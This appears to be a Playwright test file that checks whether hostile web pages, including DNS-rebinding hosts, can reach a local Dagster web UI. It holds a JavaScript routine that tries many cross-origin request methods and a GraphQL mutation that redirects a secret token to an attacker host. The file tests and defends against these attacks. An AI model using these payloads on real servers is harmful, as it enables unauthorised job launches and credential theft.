"""Dagster's web UI in Chromium: pages of others reach nothing, our own do everything."""

import re
from collections.abc import Iterator
from typing import Any

import pytest

from tests.support.loopback import Answer, Asked, Served, serve
from tests.support.product import SECRETS, Product, serving

pytest.importorskip("playwright.sync_api")
from playwright.sync_api import BrowserContext, expect

expect.set_options(timeout=60_000)  # for a busy machine
pytestmark = [pytest.mark.browser, pytest.mark.slow]

LAUNCH = """mutation { launchRun(executionParams: {runConfigData: {}, selector: {
  repositoryLocationName: "mam", repositoryName: "__repository__", jobName: "prune_history"}}) { __typename } }"""
SHUTDOWN = 'mutation { shutdownRepositoryLocation(repositoryLocationName: "mam") { __typename } }'
STEAL = """mutation { launchRun(executionParams: {runConfigData:
  {resources: {audiobookshelf: {config: {url: "ATTACKER", token: {env: "MAM_ID"}}}}}, selector: {
  repositoryLocationName: "mam", repositoryName: "__repository__", jobName: "library_refresh"}}) { __typename } }"""

# Every way in which a page can make a browser send something elsewhere; each says what came of it.
ATTACK = """
async ({target, queries}) => {
  const said = {};
  const settled = (make) => new Promise((done) => { make(done); setTimeout(() => done("nothing"), 4000); });
  const attempt = async (name, action) => {
    try { said[name] = await action(); } catch (error) { said[name] = "failed: " + error; }
  };
  for (const [kind, query] of Object.entries(queries)) {
    const address = target + "/graphql?query=" + encodeURIComponent(query);
    const body = JSON.stringify({query});
    await attempt(kind + " img", () => settled((done) => {
      const image = new Image(); image.onload = () => done("loaded"); image.onerror = () => done("refused");
      image.src = address;
    }));
    await attempt(kind + " form", () => settled((done) => {
      const frame = document.createElement("iframe"); frame.name = "hidden"; frame.onload = () => done("answered");
      document.body.append(frame);
      const form = document.createElement("form");
      form.method = "POST"; form.target = "hidden"; form.action = target + "/graphql";
      const field = document.createElement("input"); field.name = "query"; field.value = query;
      form.append(field); document.body.append(form); form.submit();
    }));
    await attempt(kind + " form by address", () => settled((done) => {
      const frame = document.createElement("iframe"); frame.name = "hidden2"; frame.onload = () => done("answered");
      document.body.append(frame);
      const form = document.createElement("form");
      form.method = "POST"; form.target = "hidden2"; form.action = address; form.enctype = "text/plain";
      document.body.append(form); form.submit();
    }));
    for (const type of ["text/plain", "application/json", "application/graphql"]) {
      for (const mode of ["no-cors", "cors"]) {
        await attempt(`${kind} fetch ${type} ${mode}`, async () => {
          const answer = await fetch(target + "/graphql", {
            method: "POST", mode, credentials: "include", headers: {"Content-Type": type},
            body: type === "application/graphql" ? query : body});
          return "status " + answer.status;
        });
      }
    }
    await attempt(kind + " beacon", async () => navigator.sendBeacon(target + "/graphql", body));
    await attempt(kind + " websocket", () => settled((done) => {
      const socket = new WebSocket(target.replace("http", "ws") + "/graphql", "graphql-ws");
      socket.onopen = () => {
        socket.send(JSON.stringify({type: "connection_init", payload: {}}));
        socket.send(JSON.stringify({type: "start", id: "1", payload: {query}}));
        done("opened");
      };
      socket.onerror = () => done("refused");
    }));
  }
  await attempt("read", async () => await (await fetch(target + "/server_info")).text());
  await attempt("report", async () => {
    await fetch(target + "/report_asset_materialization/missing_books", {method: "POST", mode: "no-cors"});
    return "sent";
  });
  return said;
}
"""


@pytest.fixture(scope="module")
def product(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Product]:
    with serving(tmp_path_factory.mktemp("product") / "state") as made:
        yield made


@pytest.fixture
def attacker() -> Iterator[Served]:
    def page(asked: Asked) -> Answer:
        return Answer("<!doctype html><title>kittens</title><body>", headers={"Content-Type": "text/html"})

    with serve(page) as made:
        yield made


def unharmed(product: Product, attacker: Served, runs: dict[str, str], pages: int) -> None:
    """Nothing was launched, nothing went out, and everything still serves."""
    assert product.runs() == runs
    assert product.graphql("{ assetNodes { assetKey { path } } }")["assetNodes"]
    product.children.check()
    assert len([asked for asked in attacker.asked if asked.path != "/favicon.ico"]) == pages
    assert not any(secret in f"{asked}" for asked in attacker.asked for secret in SECRETS.values())


@pytest.mark.parametrize("target", ["127.0.0.1", "localhost", "rebound.test"])
@pytest.mark.parametrize("page_of", ["evil.test", "127.0.0.1"])
def test_a_page_of_others_reaches_nothing(
    product: Product, attacker: Served, browser: BrowserContext, page_of: str, target: str
) -> None:
    runs, logged = product.runs(), len(product.log("web"))
    page = browser.new_page()
    page.goto(attacker.url.replace("127.0.0.1", page_of))
    assert page.title() == "kittens"
    queries = {"launch": LAUNCH, "shutdown": SHUTDOWN, "steal": STEAL.replace("ATTACKER", attacker.url)}
    said = page.evaluate(ATTACK, {"target": f"http://{target}:{product.port}", "queries": queries})
    assert len(said) == 3 * 11 + 2
    assert_refused(said)
    unharmed(product, attacker, runs, pages=1)
    refused = product.log("web")[logged:]
    for method in ("GET", "POST", "WEBSOCKET"):  # they did arrive
        assert f"refused {method} '/graphql' from 127.0.0.1" in refused


def assert_refused(said: dict[str, Any]) -> None:
    for name, result in said.items():
        assert result not in ("loaded", "opened", "status 200"), name
        assert "dagster_version" not in str(result), name


def test_a_page_whose_name_comes_to_point_here_reaches_nothing(
    product: Product, attacker: Served, browser: BrowserContext
) -> None:
    """For the browser it is of the same origin then: it may read, and sends what our own pages send."""
    runs = product.runs()
    home = f"http://rebound.test:{product.port}"
    page = browser.new_page()
    refused = page.goto(home)
    assert refused is not None
    assert refused.status == 403
    page.route(f"{home}/kittens", lambda route: route.fulfill(content_type="text/html", body="<title>kittens</title>"))
    page.goto(f"{home}/kittens")  # as it was before the name was pointed elsewhere
    queries = {"launch": LAUNCH, "shutdown": SHUTDOWN, "steal": STEAL.replace("ATTACKER", attacker.url)}
    said = page.evaluate(ATTACK, {"target": home, "queries": queries})
    assert_refused(said)
    assert said["launch fetch application/json cors"] == "status 403"
    unharmed(product, attacker, runs, pages=0)


def test_ours_is_shown_in_no_frame(product: Product, attacker: Served, browser: BrowserContext) -> None:
    page = browser.new_page()
    page.goto(attacker.url.replace("127.0.0.1", "evil.test"))
    page.evaluate(
        """(address) => new Promise((done) => {
        const frame = document.createElement("iframe"); frame.onload = done; frame.src = address;
        document.body.append(frame); })""",
        product.url,
    )
    expect(page.frame_locator("iframe").locator("html")).to_contain_text("refused to connect")


def test_the_web_ui_works(product: Product, browser: BrowserContext) -> None:
    """Lineage, launching a job, and its run live, with no complaint of the guard or of the page."""
    page = browser.new_page()
    troubles: list[str] = []
    page.on("pageerror", lambda error: troubles.append(str(error)))
    page.on(
        "response", lambda answer: troubles.append(f"{answer.status} {answer.url}") if answer.status >= 400 else None
    )
    sockets: list[str] = []
    page.on("websocket", lambda opened: sockets.append(opened.url))

    page.goto(f"{product.url}/asset-groups")
    expect(page.get_by_text("acquisition").first).to_be_visible()
    page.goto(f"{product.url}/assets/missing_books?view=lineage")
    page.get_by_text("search_candidates").first.click()
    page.wait_for_url(re.compile("search_candidates"))

    page.goto(f"{product.url}/locations/mam/jobs/prune_history/playground")
    page.get_by_role("button", name=re.compile("Launch run", re.IGNORECASE)).click()
    page.wait_for_url(re.compile("/runs/"))
    run_id = page.url.rsplit("/", 1)[1][:36]
    expect(page.get_by_text("prune_runs").first).to_be_visible()
    expect(page.get_by_text("Success").first).to_be_visible(timeout=120_000)
    expect(page.get_by_text(re.compile("deleted 0 runs")).first).to_be_visible()
    assert product.ended(run_id) == "SUCCESS"
    assert sockets
    assert troubles == []
